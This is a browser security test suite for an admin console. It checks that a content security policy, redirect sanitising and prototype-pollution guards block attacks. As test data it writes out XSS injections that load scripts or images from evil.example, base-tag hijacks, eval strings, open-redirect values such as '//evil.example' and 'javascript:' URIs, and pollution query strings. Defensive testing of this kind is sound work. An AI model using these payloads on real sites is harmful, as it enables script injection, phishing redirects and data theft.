import { spawn } from 'node:child_process'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { utils, write } from '@e965/xlsx'
import type { Page } from 'playwright-core'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { safeRedirect } from '@/lib/safeRedirect'
import { redirects } from '../hostile'
import { control, goTo, logInByHand, openPage, settled, signIn, startOver, takeProblems, url } from './harness'

const USERS = '/system-management/userManagement'
const has = (page: Page, name: string) => page.evaluate((key) => key in window, name)

let seen: string[] = []
const takeSeen = (): string[] => {
  seen.push(...takeProblems())
  return seen
}
beforeEach(() => {
  seen = []
})

const foreignSite = async (html: string): Promise<{ address: string; stop: () => void }> => {
  const server = createServer((_, out) => out.writeHead(200, { 'content-type': 'text/html' }).end(html))
  await new Promise<void>((ready) => void server.listen(0, 'localhost', ready))
  const { port } = server.address() as AddressInfo // Listens on a port, so never a pipe.
  return { address: `http://localhost:${port}/`, stop: () => server.close() }
}

let shared: Page
beforeAll(async () => {
  shared = await openPage()
  await signIn(shared)
  await shared.goto('/home')
  await settled(shared)
})

describe('content security policy', () => {
  it('F-273 F-274 F-281 blocks and reports every kind of script injection', { tags: ['core'] }, async () => {
    const page = await openPage()
    await signIn(page)
    await page.goto('/home')
    await settled(page)
    expect(takeProblems()).toEqual([])
    await page.evaluate(() => {
      // Untyped on purpose, as an attacker would write it.
      const attempts: (() => void)[] = [
        () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran=1' })),
        () =>
          document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
        () =>
          document.body.append(
            Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=1' }),
          ),
        () => document.body.insertAdjacentHTML('beforeend', '<img src=/nothing onerror="window.ran=1">'),
        () => document.body.setAttribute('onclick', 'window.ran=1'),
        () => void Reflect.apply(Reflect.get(window, 'eval'), window, ['window.ran=1']),
        () => void Reflect.construct(Function, ['window.ran=1'])(),
        () => void Reflect.apply(setTimeout, window, ['window.ran=1']),
        () => void new Worker('data:text/javascript,1'),
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran=1</script>' }),
          ),
        () => document.body.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
        () =>
          document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/spy.png' })),
        () =>
          void window.trustedTypes?.createPolicy('mine', {
            createHTML: (text) => text,
            createScriptURL: (text) => text,
          }),
      ]
      // Deferred, because code evaluated by a debugger is exempt from the policy.
      setTimeout(() => {
        for (const attempt of attempts) {
          try {
            attempt()
          } catch {}
        }
        document.body.click()
      })
    })
    await expect
      .poll(() => takeSeen().filter((problem) => problem.includes('policy violation')).length)
      .toBeGreaterThanOrEqual(8)
    expect(await has(page, 'ran')).toBe(false)
    expect(await page.evaluate(() => document.baseURI)).toBe(`${url}/home`)
    const asked = takeSeen().flatMap((problem) => /^foreign request: (.*)/.exec(problem)?.[1] ?? [])
    await expect
      .poll(() =>
        asked.filter(
          (address) => !takeSeen().some((problem) => problem.startsWith(`failed request: GET ${address} csp`)),
        ),
      )
      .toEqual([])
  })
  it('F-275 prevents other sites from framing the console', { tags: ['core'] }, async () => {
    const site = await foreignSite(`<iframe src="${url}/home" width=800 height=600></iframe>`)
    const page = await openPage()
    await page.goto(site.address)
    await expect.poll(() => takeSeen().join()).toMatch(/frame-ancestors|X-Frame-Options/i)
    const frame = page.frames().find((one) => one !== page.mainFrame())
    expect(frame?.url()).not.toContain('/home')
    expect(await frame?.locator('#root').count()).toBe(0)
    site.stop()
  })
  it('F-191 gives a page opened by a link no opener and no referrer', async () => {
    const site = await foreignSite('<p>外部</p>')
    const page = await openPage()
    await signIn(page)
    await control.inject({
      path: '/api-user/menus/current',
      kind: 'code',
      code: 200,
      data: [{ id: '1', path: '', url: site.address, title: '外部', hidden: false, type: 1 }],
    })
    await page.goto('/home')
    await settled(page)
    const link = page.locator('.sidebar a, aside a, nav a', { hasText: '外部' }).first()
    expect(await link.getAttribute('title')).toContain(site.address)
    const [opened] = await Promise.all([page.context().waitForEvent('page'), link.click()])
    await opened.waitForLoadState()
    expect(opened.url()).toBe(site.address)
    expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
    await control.lift()
    site.stop()
  })
  it('F-283 ignores messages from other windows', async () => {
    const page = shared
    await control.clear()
    await page.evaluate(() => {
      for (const data of [
        'changed',
        { type: 'logout' },
        '?redirect=//evil.example',
        '<img src=x onerror=window.ran=1>',
        { access_token: 'x' },
      ])
        window.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.example' }))
    })
    await settled(page)
    expect(new URL(page.url()).pathname).toBe('/home')
    expect(await control.log()).toEqual([])
    expect(await has(page, 'ran')).toBe(false)
  })
  it('F-274 allows the workers that read a large sheet', async () => {
    const page = shared
    await goTo(page, USERS)
    await settled(page)
    await page.getByRole('button', { name: '导入' }).click()
    const dialog = page.getByRole('dialog', { name: /导入/ })
    const header = ['用户名', '姓名', '手机号', '级别', '组织编码', '角色编码', '岗位']
    const rows = Array.from({ length: 1900 }, (_, at) => [
      `many.${at}`,
      `姓名${at}`,
      `139${String(at).padStart(8, '0')}`,
      '一级经销商'.repeat(12),
      `D${at}`,
      'DEALER_ADMIN',
      `第${at}号销售顾问`,
    ])
    const book = utils.book_new()
    utils.book_append_sheet(book, utils.aoa_to_sheet([header, ...rows]), 'Sheet1')
    // xlsx types its output as any
    const buffer = Buffer.from(write(book, { type: 'array', bookType: 'xlsx', compression: true }) as ArrayBuffer)
    await dialog.locator('input[type=file]').setInputFiles({
      name: 'many.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer,
    })
    // The file must be parsed: either its rows or missing columns are reported, never a read error.
    await dialog
      .getByText(/共 1,?900 行|缺少/)
      .first()
      .waitFor()
  })
})

describe('redirects and addresses', () => {
  it('F-183 F-186 stay on the console origin in Chromium once sanitised', async () => {
    const page = await openPage()
    await page.goto('/login')
    const places = redirects().map((value) => safeRedirect(value))
    const judged = await page.evaluate(
      (all) =>
        all.map((place) => {
          const from = location.href
          history.pushState({}, '', place)
          const [origin, path] = [location.origin, location.pathname]
          history.replaceState({}, '', from)
          return [origin, path, new URL(place, from).origin]
        }),
      places,
    )
    expect(judged).toEqual(places.map((place) => [url, new URL(place, url).pathname, url]))
  })
  it('F-186 F-188 never leave the console through /redirect or /login', async () => {
    const page = shared
    await startOver(page)
    // Every twentieth redirect and the worst by name. What a browser cannot put into a path goes into the query.
    const some = [
      ...redirects()
        .map((value) => Buffer.from(value).toString())
        .filter((value, at) => at % 20 === 0 && value.length < 2000),
      '//evil.example',
      '/\\evil.example',
      'javascript:window.ran=1',
    ]
    for (const value of some) {
      for (const address of [
        `/redirect/${encodeURIComponent(value)}`,
        `/redirect/${value.replaceAll(/[\s?#%]/g, '')}`,
        `/login?redirect=${encodeURIComponent(value)}`,
      ]) {
        await goTo(page, address)
        await page.waitForFunction(() => !/^\/(login|redirect)/.test(location.pathname))
        expect(new URL(page.url()).origin, address).toBe(url)
      }
    }
    expect(await has(page, 'ran')).toBe(false)
  })
  it('F-183 F-188 F-189 lead to the home page after log-in when hostile', async () => {
    const page = await openPage()
    const kinds = [
      '//evil.example',
      '/\\evil.example',
      'https://evil.example/',
      'javascript:window.ran=1',
      '/\t/evil.example',
      '/%',
      '/login',
      'x'.repeat(8000),
    ]
    for (const value of kinds) {
      await logInByHand(page, 'superadmin', value)
      expect(new URL(page.url()).origin, value).toBe(url)
      await page.locator('.navbar').waitFor({ timeout: 4000 })
      expect(new URL(page.url()).pathname, value).toBe('/home')
      await page.context().clearCookies()
    }
    expect(await has(page, 'ran')).toBe(false)
  })
  it('F-203 F-207 F-282 cannot pollute prototypes or shadow globals', async () => {
    const page = await openPage()
    await signIn(page)
    await page.goto(
      `${USERS}?__proto__[polluted]=1&constructor.prototype.polluted=1&__proto__.polluted=1&root=1&location=2&keyword=__proto__`,
    )
    await settled(page)
    expect(await page.evaluate(() => [Reflect.get({}, 'polluted'), Reflect.get([], 'polluted')])).toEqual([
      undefined,
      undefined,
    ])
    await page.evaluate(() =>
      localStorage.setItem(
        'settings',
        JSON.stringify({ value: { color: 'red;background:url(https://evil.example/t)', language: 'zh' } }),
      ),
    )
    await page.reload()
    await settled(page)
    expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain('evil.example')
    // Elements from a text may be named like globals, so the console must not read such globals.
    await page.evaluate(() => {
      for (const id of ['location', 'history', 'settings', '__config', 'trustedTypes'])
        document.body.append(Object.assign(document.createElement('b'), { id }))
    })
    await goTo(page, '/system-management/roleManagement')
    await settled(page)
    await page.locator('.tab-head[aria-selected=true]', { hasText: '角色' }).waitFor()
  })
})

describe('npm start', () => {
  it('F-273 serves the log-in page under the same security policy', async () => {
    const port = 20_000 + Math.floor(Math.random() * 20_000)
    const child = spawn(
      'node_modules/.bin/vite',
      ['--port', String(port), '--strictPort', '--mode', 'development', '--logLevel', 'warn'],
      {
        env: { ...process.env, VITEST: undefined, NODE_ENV: 'development', VITE_SOCIAL_HOST: `:${port + 1}` },
        stdio: 'ignore',
      },
    )
    const dev = `http://localhost:${port}`
    try {
      const ask = () => fetch(`${dev}/login`, { headers: { accept: 'text/html' } })
      await expect
        .poll(
          () =>
            ask()
              .then(({ ok }) => ok)
              .catch(() => false),
          { timeout: 30_000 },
        )
        .toBe(true)
      const reply = await ask()
      const built = await fetch(`${url}/login`, { headers: { accept: 'text/html' } })
      const same = (value: string | null) =>
        value?.replaceAll(/ 'nonce-[\w-]+'/g, '').replaceAll(/http:\/\/localhost:\d+/g, 'social')
      for (const header of [
        'content-security-policy',
        'x-content-type-options',
        'x-frame-options',
        'referrer-policy',
        'cross-origin-opener-policy',
        'cross-origin-resource-policy',
        'permissions-policy',
        'cache-control',
      ])
        expect(same(reply.headers.get(header)), header).toBe(same(built.headers.get(header)))
      const page = await openPage()
      await page.goto(`${dev}/login`)
      await page.locator('#login-username').waitFor({ timeout: 45_000 })
    } finally {
      child.kill()
    }
  }, 90_000)
})

describe('confidentiality', () => {
  it('F-209 F-270 keeps token, password and secret out of addresses, titles and the browser log', async () => {
    const page = await openPage()
    const told: string[] = []
    page.on('console', (message) => told.push(message.text()))
    page.on('request', (request) => told.push(request.url(), request.headers().referer ?? ''))
    await logInByHand(page, 'superadmin', USERS)
    await settled(page)
    const [cookie] = await page.context().cookies()
    await control.inject({ path: '*', kind: 'code', code: 500, message: '系统繁忙' })
    for (const path of ['/clue-management/clueList', '/system-management/roleManagement', '/updatePassword']) {
      await goTo(page, path)
      await settled(page)
      told.push(await page.title(), page.url())
    }
    await control.lift()
    expect(told.length).toBeGreaterThan(50)
    expect(cookie?.value.length).toBeGreaterThan(8)
    const secrets = [cookie?.value ?? '', 'Abc@12345', 'console-development']
    expect(told.filter((text) => secrets.some((secret) => text.includes(secret)))).toEqual([])
    expect(told.filter((text) => /\b1[3-9]\d{9}\b/.test(text))).toEqual([])
  })
  it('F-285 shows only the message of the server after a refused log-in', async () => {
    const page = await openPage()
    for (const message of ['用户名或密码错误', '<b>账号</b>不存在']) {
      await control.inject({ path: '/api-auth/oauth/user/tokenByCode', kind: 'code', code: 400, message, times: 1 })
      await page.goto('/login')
      await page.locator('#login-username').fill('nobody')
      await page.locator('#login-password').fill('Wrong@12345')
      await page.locator('#login-validateCode').fill('8888')
      await page.locator('button[type=submit]').click()
      await expect.poll(() => page.locator('.login-refusal').textContent()).toBe(message)
    }
  })
})
